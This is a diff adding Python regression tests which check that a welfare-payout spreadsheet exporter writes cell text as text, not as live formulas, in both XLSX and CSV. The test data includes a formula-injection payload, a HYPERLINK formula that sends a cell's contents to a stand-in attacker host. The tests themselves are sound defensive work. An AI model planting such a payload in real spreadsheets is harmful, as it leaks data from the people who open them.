@@ -1,0 +1,53 @@
+"""Issue 13: `payouts.xlsx` wrote a name beginning with "=" as a live formula. Every cell of
+text comes out as text, through the one spreadsheet writer (`server.infra.sheets`)."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+from openpyxl import load_workbook
+
+from server.infra.sheets import Sheet, to_csv, to_xlsx
+from server.infra.tenancy import tenant_scope
+from server.modules.welfare import service
+from tests.modules.orgs.factories import make_member
+from tests.modules.welfare.conftest import admin, build_world, holiday
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")'
+
+
+def _no_formulas(body: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(body)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+
+
+async def test_a_name_beginning_with_equals_comes_out_as_text(tenant):
+    world = await build_world(tenant.slug, n=1)
+    async with tenant_scope(tenant.slug):
+        m = await make_member(world.union, name=EVIL)
+        h = await service.file_household(
+            service.HouseholdIn(
+                member_id=m.id, household_size=2, reasons=["illness"], income_per_head_fen=1, bank_account="6222000099"
+            ),
+            admin(tenant.slug),
+        )
+        await service.review_household(h.id, service.ReviewIn(approve=True), admin(tenant.slug))
+        c = await service.create_campaign(holiday(), admin(tenant.slug))
+        await service.approve_campaign(c.id, admin(tenant.slug))
+        body = await service.export_payouts_xlsx(c.id, admin(tenant.slug))
+    _no_formulas(body)
+    rows = list(load_workbook(io.BytesIO(body)).worksheets[0].iter_rows(values_only=True))
+    assert any(row[1] == EVIL for row in rows[1:]), rows
+
+
+def test_the_one_writer_keeps_text_as_text_and_numbers_as_numbers():
+    body = to_xlsx(Sheet("t", ["a", "b", "c"], [[EVIL, 12, 3.5], ["+1", "-2", "@x"]], number_formats={3: "0.00"}))
+    _no_formulas(body)
+    ws = load_workbook(io.BytesIO(body)).worksheets[0]
+    assert [c.value for c in ws[2]] == [EVIL, 12, 3.5] and ws.cell(2, 3).number_format == "0.00"
+    assert [c.data_type for c in ws[3]] == ["s", "s", "s"]
+    text = to_csv(["a"], [[EVIL], [7]]).decode("utf-8-sig")
+    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点此领取"")"' and "7" in text
